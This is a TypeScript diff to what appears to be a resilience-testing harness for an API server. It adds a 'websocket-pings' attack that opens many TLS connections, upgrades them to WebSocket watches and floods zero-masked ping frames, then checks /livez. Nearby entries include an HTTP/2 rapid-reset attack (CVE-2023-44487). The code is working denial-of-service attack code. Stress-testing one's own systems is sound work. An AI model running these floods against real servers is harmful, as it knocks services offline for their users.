@@ -151,6 +151,45 @@ const handshakes: Attack = {
     })
 }
 
+const webSocketHead = (target: Target): string => {
+  const headers = {
+    Connection: "Upgrade",
+    Upgrade: "websocket",
+    Origin: "https://attack.io",
+    "Sec-WebSocket-Version": 13,
+    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="
+  }
+  return `${requestHead(target, "tenant", "GET", "/api/v1/namespaces/default/configmaps?watch=1", headers)}\r\n`
+}
+
+/** A masked ping, with a mask of zeros. */
+const PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0])
+
+const webSockets: Attack = {
+  name: "protocol/websocket-pings",
+  about: "pings without end over watches on WebSockets",
+  run: (target, scale) =>
+    Effect.gen(function* () {
+      const opened = yield* Effect.forEach(
+        Array.from({ length: Math.ceil(20 * scale) }),
+        () => openTls(target, "http/1.1"),
+        { concurrency: 8 }
+      )
+      for (const one of opened) one?.socket.write(webSocketHead(target))
+      const part = repeated(5000, () => PING)
+      for (let round = 0; round < Math.ceil(ROUNDS * scale); round++) {
+        for (const one of opened) if (one?.isClosed() === false && !one.socket.writableNeedDrain) one.socket.write(part)
+        yield* Effect.sleep(20)
+      }
+      const accepted = opened.filter((one) => one?.received().startsWith("HTTP/1.1 101")).length
+      const alive = yield* target.ask("tenant", { method: "GET", path: "/livez" })
+      return {
+        finding: `${accepted} of ${opened.length} opened, /livez ${alive.code}`,
+        holds: alive.code === 200 && accepted === opened.length
+      }
+    })
+}
+
 /** Attacks by bytes that violate or misuse the protocol. */
 export const protocol: ReadonlyArray<Attack> = [
   frames("rapid-reset", "HTTP/2 requests, each taken back at once (CVE-2023-44487)", (target, round) =>
@@ -186,5 +225,6 @@ export const protocol: ReadonlyArray<Attack> = [
   ),
   words,
   pipelined,
+  webSockets,
   handshakes
 ]
